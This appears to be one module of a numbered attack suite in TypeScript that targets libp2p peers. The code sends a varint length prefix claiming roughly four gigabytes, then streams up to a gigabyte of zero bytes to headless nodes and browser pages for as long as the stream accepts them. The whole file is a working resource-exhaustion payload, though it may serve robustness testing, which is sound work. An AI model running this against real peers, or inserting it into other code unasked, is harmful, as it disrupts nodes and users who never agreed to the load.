/** Attack 15: a length prefix that claims gigabytes, with bytes to follow. Sent to headless nodes and to pages. */
import type { Stream } from "@libp2p/interface";

const GIGABYTES = Uint8Array.of(0xff, 0xff, 0xff, 0xff, 0x0f);

/** Claims them, then sends zeros for as long as the other side takes them, a gigabyte at most. */
export function claimGigabytes(stream: Stream): void {
  let piecesLeft = 16_384;
  const go = () => {
    while (isTaken(stream) && !stream.writableNeedsDrain && piecesLeft-- > 0)
      stream.send(new Uint8Array(65_536));
  };
  stream.addEventListener("drain", go);
  if (isTaken(stream)) stream.send(GIGABYTES);
  go();
}

export const isTaken = (stream: Stream) => stream.status === "open" && stream.writeStatus === "writable";
